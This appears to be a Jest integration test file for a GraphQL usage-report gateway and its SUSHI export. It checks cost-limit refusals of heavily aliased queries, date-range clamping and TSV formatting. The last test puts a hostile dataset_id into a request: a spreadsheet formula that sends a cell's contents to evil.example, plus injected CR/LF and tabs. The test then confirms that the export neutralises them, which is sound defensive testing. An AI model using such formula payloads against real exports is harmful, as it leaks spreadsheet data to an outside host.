/**
 * Issue 16, findings 4 and 5: heavy fields weighted by the cost limit and
 * SUSHI ranges bounded, over real HTTP against the embedded database. What
 * is asserted is the coded refusal and the size of what comes back, never
 * a time.
 */
import { loadReportCatalog, REPORT_EVENTS, REPORT_GATEWAY_ENV, reportKeys, track, type ReportKeys } from '../support/report-fixtures';
import { startTestGateway, type TestGateway } from '../support/test-gateway';

type Json = { errors?: { message: string; extensions?: { code?: string; cost?: number } }[]; data?: unknown };

const aliased = (n: number, field: (i: number) => string) => `{ ${Array.from({ length: n }, (_, i) => `a${i}: ${field(i)}`).join(' ')} }`;
const day = (i: number) => `2025-01-${String(i + 1).padStart(2, '0')}`;

describe('heavy fields weighted by the cost limit: refused before running, ordinary calls served', () => {
  let t: TestGateway;
  let k: ReportKeys;
  beforeAll(async () => {
    t = await startTestGateway({ env: REPORT_GATEWAY_ENV });
    await loadReportCatalog(t);
    k = await reportKeys(t);
    await track(t, k.tracker, REPORT_EVENTS, 'heavy');
  });
  afterAll(() => t.stop());

  async function post(query: string, key: string | null): Promise<{ status: number; json: Json }> {
    const res = await fetch(t.url, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...(key ? { authorization: `Bearer ${key}` } : {}) },
      body: JSON.stringify({ query }),
    });
    return { status: res.status, json: (await res.json()) as Json };
  }

  it.each([
    ['30 aliased usageTable (USER)', () => aliased(30, (i) => `usageTable(first: 1, filter: { since: "${day(i)}" }) { totalCount }`), 'user'],
    ['3 aliased usageTable (USER)', () => aliased(3, (i) => `usageTable(first: 1, filter: { since: "${day(i)}" }) { totalCount }`), 'user'],
    ['9 aliased dataDashboard, distinct windows (anonymous)', () => aliased(9, (i) => `dataDashboard(from: "${day(i)}T00:00:00Z") { totals { views } }`), 'anonymous'],
    ['4 aliased dataDashboard, distinct windows (anonymous)', () => aliased(4, (i) => `dataDashboard(from: "${day(i)}T00:00:00Z") { totals { views } }`), 'anonymous'],
    ['9 aliased usageReport (ADMIN)', () => aliased(9, (i) => `usageReport(first: 1, since: "${day(i)}") { totalCount }`), 'admin'],
    ['4 aliased usageReport (ADMIN)', () => aliased(4, (i) => `usageReport(first: 1, since: "${day(i)}") { totalCount }`), 'admin'],
    ['4 aliased monthlyUsageExport (ADMIN)', () => aliased(4, () => `monthlyUsageExport(first: 1) { totalCount }`), 'admin'],
    ['4 aliased usageByUserReport (ADMIN)', () => aliased(4, () => `usageByUserReport(type: FILE, first: 1) { totalCount }`), 'admin'],
    [
      '4 popularity windows (anonymous)',
      () => `{ dataset(id: "d-pub") { ${Array.from({ length: 4 }, (_, i) => `p${i}: popularity(from: "${day(i)}T00:00:00Z") { score }`).join(' ')} } }`,
      'anonymous',
    ],
  ])('refuses %s with QUERY_TOO_COMPLEX before running it', async (_name, query, who) => {
    const key = who === 'user' ? k.alice : who === 'admin' ? k.admin : null;
    const r = await post(query(), key);
    expect(r.status).toBe(400);
    expect(r.json.errors?.[0]?.extensions?.code).toBe('QUERY_TOO_COMPLEX');
    expect(r.json.errors?.[0]?.extensions?.cost).toBeGreaterThan(100_000);
    expect(r.json.data).toBeUndefined();
  });

  it.each([
    ['one usageTable (USER)', `{ usageTable(first: 50, filter: { since: "2025-01" }) { totalCount nodes { date resourceId metric count } } }`, 'user'],
    ['two usageTable (USER)', aliased(2, (i) => `usageTable(first: 10, filter: { since: "${day(i)}" }) { totalCount }`), 'user'],
    ['one dataDashboard (anonymous)', `{ dataDashboard { totals { views datasets } top5 { downloads { datasetId count } } } }`, 'anonymous'],
    ['three dashboards of one window (anonymous)', aliased(3, () => `dataDashboard(portalId: "p1", from: "2025-01-01T00:00:00Z") { totals { views } }`), 'anonymous'],
    ['one usageReport (ADMIN)', `{ usageReport(first: 50) { totalCount nodes { id views downloads } } }`, 'admin'],
    ['three usageReport (ADMIN)', aliased(3, (i) => `usageReport(first: 1, since: "${day(i)}") { totalCount }`), 'admin'],
    ['one monthlyUsageExport (ADMIN)', `{ monthlyUsageExport(first: 50) { totalCount } }`, 'admin'],
    ['one usageByUserReport (USER)', `{ usageByUserReport(type: FILE, first: 50) { totalCount } }`, 'user'],
  ])('still serves %s', async (_name, query, who) => {
    const key = who === 'user' ? k.alice : who === 'admin' ? k.admin : null;
    const r = await post(query, key);
    expect(r.json.errors).toBeUndefined();
    expect(r.status).toBe(200);
  });

  it('the usage table of a normal call has its rows (the weight refuses nothing ordinary)', async () => {
    const r = await post(`{ usageTable(first: 500, filter: { since: "2025-01", granularity: MONTH }) { totalCount } }`, k.admin);
    expect(r.json.errors).toBeUndefined();
    expect((r.json.data as { usageTable: { totalCount: number } }).usageTable.totalCount).toBeGreaterThan(10);
  });
});

describe('SUSHI ranges bounded, years as written, clean TSV header', () => {
  let t: TestGateway;
  let k: ReportKeys;
  beforeAll(async () => {
    t = await startTestGateway({ env: REPORT_GATEWAY_ENV });
    await loadReportCatalog(t);
    k = await reportKeys(t);
    await track(t, k.tracker, REPORT_EVENTS, 'sushi');
  });
  afterAll(() => t.stop());

  const dsr = async (query: string, tsv = false) => {
    const res = await fetch(`${t.baseUrl}/api/sushi/reports/dsr?${query}${tsv ? '&format=tsv' : ''}`, { headers: { authorization: `Bearer ${k.admin}` } });
    return { status: res.status, headers: res.headers, text: await res.text() };
  };
  type Header = { 'reporting-period': { 'begin-date': string; 'end-date': string }; exceptions: { code: number; message: string; data?: string }[] };
  const header = (text: string) => (JSON.parse(text) as { 'report-header': Header })['report-header'];
  const thisMonth = new Date().toISOString().slice(0, 7);
  const today = new Date().toISOString().slice(0, 10);

  it('0001-01..9999-12: clamped to the stored months, with 3030 and 3031, and bounded output', async () => {
    const r = await dsr('begin_date=0001-01&end_date=9999-12');
    expect(r.status).toBe(200);
    const h = header(r.text);
    // The fixture's history starts on 2025-01-10.
    expect(h['reporting-period']).toEqual({ 'begin-date': '2025-01-01', 'end-date': today });
    const codes = h.exceptions.map((e) => e.code);
    expect(codes).toEqual(expect.arrayContaining([3030, 3031, 3040]));
    expect(h.exceptions.find((e) => e.code === 3030)!.data).toMatch(/stored usage starts on 2025-01-10: months before 2025-01 are left out/);
    expect(h.exceptions.find((e) => e.code === 3031)!.data).toMatch(new RegExp(`months after ${thisMonth} are left out`));
    const report = JSON.parse(r.text) as { 'report-datasets': { performance: { period: { 'begin-date': string } }[] }[] };
    expect(report['report-datasets'].length).toBeGreaterThan(0);
    for (const d of report['report-datasets']) for (const p of d.performance) expect(p.period['begin-date'] >= '2025-01-01').toBe(true);

    const tsv = await dsr('begin_date=0001-01&end_date=9999-12', true);
    expect(tsv.status).toBe(200);
    const lines = tsv.text.split('\r\n');
    const months = (+thisMonth.slice(0, 4) - 2025) * 12 + +thisMonth.slice(5, 7);
    // The 13 columns of CoP-RD Table 7.3, then Jan-2025..this month; 8 rows at most per dataset.
    expect(lines[11].split('\t')).toHaveLength(13 + months);
    expect(lines[11].split('\t')[13]).toBe('Jan-2025');
    expect(lines.length).toBeLessThan(12 + 8 * 4 + 2);
    expect(tsv.text.length).toBeLessThan(20_000);
    expect(tsv.headers.get('content-disposition')).toBe(`attachment; filename="DSR-2025-01-01-${today}.tsv"`);
  });

  it('year 0050 is not 1950: a range before any data answers 3030 with no datasets', async () => {
    const r = await dsr('begin_date=0050-01&end_date=0050-12');
    expect(r.status).toBe(200);
    const h = header(r.text);
    expect(h['reporting-period']).toEqual({ 'begin-date': '0050-01-01', 'end-date': '0050-12-31' });
    expect(h.exceptions.map((e) => e.code)).toEqual([3030]);
    expect((JSON.parse(r.text) as { 'report-datasets': unknown[] })['report-datasets']).toEqual([]);
    const f = (JSON.parse(r.text) as { 'report-header': { 'report-filters': { name: string; value: string }[] } })['report-header']['report-filters'];
    expect(f).toEqual(expect.arrayContaining([{ name: 'begin-date', value: '0050-01' }]));
    const tsv = await dsr('begin_date=0050-01&end_date=1999-12', true);
    expect(tsv.text.length).toBeLessThan(2_000);
  });

  it('a range wholly after the current month answers 3031 with no datasets and no month columns', async () => {
    const r = await dsr('begin_date=9000-01&end_date=9999-12');
    expect(r.status).toBe(200);
    expect(header(r.text).exceptions.map((e) => e.code)).toEqual([3031, 3030]);
    const tsv = await dsr('begin_date=9000-01&end_date=9999-12', true);
    expect(tsv.text.split('\r\n')[11].split('\t')).toHaveLength(13);
  });

  it('CR/LF and tabs in dataset_id write no header line or cell of their own', async () => {
    const hostile = encodeURIComponent('d-pub\r\n=HYPERLINK("http://evil.example/?x="&A1,"click")\r\n\t@SUM(1+1)');
    const tsv = await dsr(`begin_date=2025-01&end_date=2025-03&dataset_id=${hostile}`, true);
    expect(tsv.status).toBe(200);
    const lines = tsv.text.split('\r\n');
    expect(lines.slice(0, 12).map((l) => l.split('\t')[0])).toEqual([
      'Report_Name', 'Report_ID', 'Release', 'Metric_Types', 'Report_Filters', 'Report_Attributes', 'Exceptions', 'Reporting_Period', 'Created', 'Created_By', '', 'Dataset_Title',
    ]);
    expect(lines[4].split('\t')).toHaveLength(2);
    expect(lines[4]).toContain('dataset-id=d-pub =HYPERLINK');
    for (const line of lines) for (const cell of line.split('\t')) expect(cell).not.toMatch(/^[=+@\-]/);
  });
});
